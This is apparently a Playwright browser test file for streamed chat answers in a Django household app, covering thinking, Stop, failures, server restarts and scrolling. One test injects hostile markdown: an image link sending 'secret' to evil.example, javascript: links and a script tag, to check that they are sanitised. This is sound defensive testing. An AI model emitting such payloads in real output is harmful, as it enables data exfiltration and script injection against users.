"""An answer as it comes, piece by piece: thoughts, words, Stop, a broken line, a killed server, several windows."""

import re
from collections.abc import Iterator
from datetime import timedelta

import pytest
from django.utils import timezone
from playwright.sync_api import Locator, Page, expect

from accounts.models import Household, User
from chat.models import Run
from tests.browser.conftest import SignedIn
from tests.browser.speaker import Kitchen, Speaker, kitchens
from tests.database import as_owner

# The first answer of a server loads what speaks to models.
LONG = 15_000
WIDE = {"viewport": {"width": 1280, "height": 800}}


@pytest.fixture(scope="module")
def model() -> Iterator[Speaker]:
    made = Speaker()
    yield made
    made.server.close()


@pytest.fixture(scope="module")
def kitchen(model: Speaker, django_db_setup: None) -> Iterator[Kitchen]:
    yield from kitchens(model)


@pytest.fixture(autouse=True)
def _patient() -> Iterator[None]:
    expect.set_options(timeout=LONG)
    yield
    expect.set_options(timeout=5_000)


@pytest.fixture(autouse=True)
def _nothing_is_left_to_say(model: Speaker) -> Iterator[None]:
    yield
    model.be_silent()


@pytest.fixture
def page(kitchen: Kitchen, model: Speaker, household: Household, alice: User, signed_in: SignedIn) -> Page:
    """Alice has asked, and the model has not said anything yet."""
    made = signed_in(alice, **WIDE, base_url=kitchen.url)
    made.goto(f"/h/{household.code}/chat/")
    field(made).fill("What is left?")
    field(made).press("Enter")
    made.wait_for_url(re.compile(r"/chat/[0-9a-f-]{36}/$"))
    expect(answer(made)).to_have_attribute("data-state", "running")
    return made


def field(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message", exact=True)


def answer(page: Page) -> Locator:
    return page.locator(".say[data-from=assistant]").last


def words(page: Page) -> Locator:
    return answer(page).locator(".prose[id$=_text]")


def test_it_thinks_then_speaks_and_then_something_can_be_done_with_it(page: Page, model: Speaker) -> None:
    field(page).focus()
    model.thinks("They ask about the **fridge**.")
    thoughts = answer(page).locator(".thinking")
    expect(thoughts).to_have_attribute("open", "")
    expect(thoughts).to_contain_text("They ask about the fridge.")
    model.says("There is **spin")
    expect(words(page).locator("strong")).to_have_text("spin")
    expect(thoughts.locator("summary")).to_contain_text(re.compile(r"Thought for \d+ second"))
    expect(thoughts).not_to_have_attribute("open", "")
    expect(answer(page).locator(".acts")).to_have_count(0)
    thoughts.locator("summary").click()
    model.says("ach**.")
    expect(words(page)).to_have_text("There is spinach.")
    model.ends()
    expect(answer(page).get_by_role("button", name="Answer anew")).to_be_visible()
    expect(thoughts).to_have_attribute("open", "")
    expect(page.get_by_role("status").filter(has_text="The answer is there.")).to_have_count(1)


def test_stop_keeps_what_was_written_however_often_it_is_pressed(page: Page, model: Speaker) -> None:
    model.says("So far.")
    expect(words(page)).to_have_text("So far.")
    page.locator(".stop form").evaluate("form => { form.requestSubmit(); form.requestSubmit() }")
    page.keyboard.press("Escape")
    expect(answer(page)).to_have_attribute("data-state", "stopped")
    expect(words(page)).to_have_text("So far.")
    expect(page.locator(".stop form")).to_have_count(0)
    model.be_silent()
    answer(page).get_by_role("button", name="Try again").click()
    model.answers("All of it.")
    expect(words(page)).to_have_text("All of it.")


def test_loaded_again_in_the_middle_and_in_a_second_window_it_is_the_same(page: Page, model: Speaker) -> None:
    model.says("One. ")
    expect(words(page)).to_contain_text("One.")
    page.reload()
    other = page.context.new_page()
    other.goto(page.url)
    for window in (page, other):
        expect(words(window)).to_contain_text("One.")
    model.answers("Two.")
    for window in (page, other):
        expect(answer(window)).to_have_attribute("data-state", "done")
        expect(words(window)).to_have_text("One. Two.")


def test_what_is_asked_meanwhile_waits_with_its_place(page: Page, model: Speaker) -> None:
    model.says("First. ")
    for text in ("Second?", "Third?"):
        field(page).fill(text)
        field(page).press("Enter")
        expect(field(page)).to_have_value("")
    expect(answer(page)).to_contain_text("2 answers are before it")
    page.get_by_role("button", name="Do not ask").last.click()
    expect(answer(page)).to_have_attribute("data-state", "stopped")
    model.ends()
    second = page.locator(".say[data-from=assistant]").nth(1)
    expect(second).to_contain_text("The assistant is at it")
    model.answers("Second.")
    expect(second.locator(".prose[id$=_text]")).to_have_text("Second.")


def test_a_line_that_breaks_in_the_middle_leaves_what_was_said_and_can_be_tried_again(
    page: Page, model: Speaker
) -> None:
    model.says("Half of")
    expect(words(page)).to_have_text("Half of")
    model.breaks()
    expect(answer(page)).to_have_attribute("data-state", "failed")
    expect(words(page)).to_have_text("Half of")
    answer(page).get_by_role("button", name="Try again").click()
    expect(answer(page)).to_have_attribute("data-state", "running")
    model.answers("All of it.")
    expect(words(page)).to_have_text("All of it.")


def test_a_killed_server_loses_nothing_that_was_said(page: Page, model: Speaker, kitchen: Kitchen) -> None:
    model.says("Kept.")
    expect(words(page)).to_have_text("Kept.")
    kitchen.kill()
    model.be_silent()
    kitchen.begin()
    with as_owner():
        # As if the seconds that a lease lasts had gone by.
        Run.objects.filter(state="running").update(lease_until=timezone.now() - timedelta(seconds=1))
    page.reload()
    expect(answer(page)).to_have_attribute("data-state", "interrupted")
    expect(words(page)).to_have_text("Kept.")
    answer(page).get_by_role("button", name="Try again").click()
    model.answers("Once more.")
    expect(words(page)).to_have_text("Once more.")


def test_what_a_model_writes_does_nothing_to_the_page(page: Page, model: Speaker) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    model.says("![x](http://evil.example/?q=secret) <img src=http://evil.example/2> [a](javascript:alert(1)) ")
    model.says("[b](http://shown.example/way)\n\n| " + " | ".join("abcdefghijklmnop") + " |\n|" + " - |" * 16)
    model.says("\n| " + " | ".join(["a long cell of words"] * 16) + " |\n\n```\nunclosed <script>alert(1)</script>")
    expect(words(page).locator("pre")).to_contain_text("unclosed <script>")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    model.ends()
    expect(answer(page)).to_have_attribute("data-state", "done")
    expect(words(page).locator("img, script, a[href^=javascript]")).to_have_count(0)
    for link in words(page).locator("a").all():
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(words(page)).to_contain_text("(shown.example)")
    assert not [url for url in asked if "evil" in url]


def test_who_reads_further_up_stays_there_while_it_is_written(page: Page, model: Speaker) -> None:
    model.says("\n\n".join(f"Line {number}." for number in range(40)))
    last = words(page).get_by_text("Line 39.")
    expect(last).to_be_in_viewport()
    page.mouse.move(600, 300)
    page.mouse.wheel(0, -300)
    expect(page.locator(".jump")).to_be_hidden()
    expect(last).not_to_be_in_viewport()
    before = words(page).get_by_text("Line 20.").bounding_box()
    model.says("\n\n" + "\n\n".join(f"Line {number}." for number in range(40, 60)))
    expect(page.locator(".jump")).to_be_visible()
    assert words(page).get_by_text("Line 20.").bounding_box() == before
    page.get_by_role("button", name="Jump to latest").click()
    expect(words(page).get_by_text("Line 59.")).to_be_in_viewport()
    model.says("\n\nLine 60.")
    expect(words(page).get_by_text("Line 60.")).to_be_in_viewport()
    model.ends()
    expect(answer(page)).to_have_attribute("data-state", "done")
